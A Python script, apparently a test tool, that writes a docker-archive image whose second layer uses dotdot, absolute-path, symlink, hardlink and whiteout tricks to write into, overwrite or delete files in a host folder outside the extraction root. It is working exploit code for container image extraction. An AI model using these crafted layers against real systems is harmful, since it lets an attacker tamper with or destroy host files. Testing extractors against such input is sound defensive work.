#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes a docker-archive whose second layer tries to reach a folder of the host.

Usage: hostile_image.py dotdot|absolute|symlink|hardlink|whiteout VICTIM_FOLDER > image.tar
The victim folder holds a file "secret"; a program that follows the layer makes "escaped" in it,
changes "secret" or removes it.
"""

import hashlib
import io
import json
import shutil
import sys
import tarfile

UP = "../" * 24


def add_file(layer: tarfile.TarFile, name: str, content: bytes, mode: int = 0o644) -> None:
    entry = tarfile.TarInfo(name)
    entry.size = len(content)
    entry.mode = mode
    layer.addfile(entry, io.BytesIO(content))


def add_link(layer: tarfile.TarFile, name: str, target: str, kind: bytes) -> None:
    entry = tarfile.TarInfo(name)
    entry.type = kind
    entry.linkname = target
    layer.addfile(entry)


def base_layer(layer: tarfile.TarFile) -> None:
    with open(shutil.which("busybox"), "rb") as program:
        add_file(layer, "bin/busybox", program.read(), 0o755)


def hostile_layer(layer: tarfile.TarFile, trick: str, victim: str) -> None:
    if trick == "dotdot":
        add_file(layer, f"{UP}{victim.lstrip('/')}/escaped", b"x")
    elif trick == "absolute":
        add_file(layer, f"{victim}/escaped", b"x")
    elif trick == "symlink":
        add_link(layer, "way", victim, tarfile.SYMTYPE)
        add_file(layer, "way/escaped", b"x")
    elif trick == "hardlink":
        add_link(layer, "way", f"{victim}/secret", tarfile.LNKTYPE)
        add_file(layer, "way", b"escaped")
    else:
        add_link(layer, "way", victim, tarfile.SYMTYPE)
        add_file(layer, "way/.wh.secret", b"")


def packed(fill) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as layer:
        fill(layer)
    return buffer.getvalue()


def main() -> None:
    trick, victim = sys.argv[1:]
    layers = [packed(base_layer), packed(lambda layer: hostile_layer(layer, trick, victim))]
    config = json.dumps({
        "architecture": "amd64", "os": "linux", "config": {},
        "rootfs": {"type": "layers",
                   "diff_ids": [f"sha256:{hashlib.sha256(each).hexdigest()}" for each in layers]},
    }).encode()
    manifest = json.dumps([{"Config": "config.json", "RepoTags": ["hostile:latest"],
                            "Layers": ["0.tar", "1.tar"]}]).encode()
    with tarfile.open(fileobj=sys.stdout.buffer, mode="w|") as archive:
        add_file(archive, "manifest.json", manifest)
        add_file(archive, "config.json", config)
        for number, layer in enumerate(layers):
            add_file(archive, f"{number}.tar", layer)


if __name__ == "__main__":
    main()
